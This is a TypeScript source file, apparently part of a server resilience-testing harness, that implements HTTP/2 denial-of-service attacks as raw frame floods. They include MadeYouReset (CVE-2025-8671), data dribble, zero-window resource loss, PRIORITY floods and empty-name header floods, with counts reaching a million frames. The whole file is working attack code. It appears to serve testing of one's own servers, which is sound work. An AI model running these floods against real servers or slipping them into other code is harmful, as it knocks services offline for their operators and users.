import { type Attack, connections, sendBatches } from "./attack.ts";
import { frame, frameType, headers, windowUpdate } from "./frames.ts";
import { connectHttp2, type RawClient, type Target } from "./raw-client.ts";
import { callHeaders, callWith, deltaRequest, node, types } from "./requests.ts";

// Client streams are odd, and each is higher than those before.
const streamOf = (index: number) => 1 + 2 * index;
const wanted = deltaRequest({ node, typeUrl: types.cluster });

/** One connection that sends so many pieces after it has greeted. */
async function oneSends(target: Target, count: number, piece: (index: number) => Buffer, batch: number) {
  const [client] = await connections(target, 1);
  if (client === undefined) return [];
  await sendBatches(client, count, piece, batch);
  return [client];
}

/** What HTTP/2 allows a client to do with streams and their windows, done without end. */
export const attacksOnStreams: readonly Attack[] = [
  {
    name: "streams that the server is made to reset (MadeYouReset, CVE-2025-8671)",
    count: 10_000,
    heavyCount: 100_000,
    run(target, count) {
      const call = callHeaders();
      // Beyond what a window may be, which is an error of that stream alone (RFC 9113, 6.9.1).
      const piece = (index: number) =>
        Buffer.concat([headers(streamOf(index), call), windowUpdate(streamOf(index), 0x7fff_ffff)]);
      return oneSends(target, count, piece, 20);
    },
  },
  {
    name: "the same, each asking for all clusters first",
    count: 5_000,
    heavyCount: 50_000,
    run(target, count) {
      const piece = (index: number) =>
        Buffer.concat([callWith(streamOf(index), wanted), windowUpdate(streamOf(index), 0x7fff_ffff)]);
      return oneSends(target, count, piece, 20);
    },
  },
  {
    name: "answers taken a byte at a time (data dribble, CVE-2019-9511)",
    count: 50,
    heavyCount: 1_000,
    async run(target, count) {
      const all = await Promise.all(Array.from({ length: count }, () => connectHttp2(target, { 4: 0 })));
      await Promise.all(all.map((client) => client.send(callWith(1, wanted))));
      for (let byte = 0; byte < 500; byte++) await Promise.all(all.map((client) => client.send(windowUpdate(1, 1))));
      return all;
    },
  },
  {
    name: "answers that are never taken, on 100 streams of a connection (CVE-2019-9517)",
    count: 20,
    heavyCount: 200,
    async run(target, count) {
      const all: RawClient[] = await Promise.all(Array.from({ length: count }, () => connectHttp2(target, { 4: 0 })));
      const calls = Buffer.concat(Array.from({ length: 100 }, (_, index) => callWith(streamOf(index), wanted)));
      await Promise.all(all.map((client) => client.send(calls)));
      return all;
    },
  },
  {
    name: "PRIORITY frames without end (CVE-2019-9513)",
    count: 50_000,
    heavyCount: 1_000_000,
    run(target, count) {
      // On streams that do not exist, each dependent on another one.
      const piece = (index: number) =>
        frame(frameType.priority, 0, streamOf(index % 1_000), Buffer.from([0, 0, 0, 1 + (index % 7) * 2 + 1, 15]));
      return oneSends(target, count, piece, 1_000);
    },
  },
  {
    name: "streams with headers that have no name (CVE-2019-9516)",
    count: 500,
    heavyCount: 5_000,
    run(target, count) {
      // 0x00 0x00 0x00: a literal that enters no table, with a name and a value of no bytes (RFC 7541, 6.2.2).
      const nothing = Buffer.alloc(3 * 1_000);
      const block = Buffer.concat([callHeaders(), nothing]);
      return oneSends(target, count, (index) => headers(streamOf(index), block), 20);
    },
  },
];
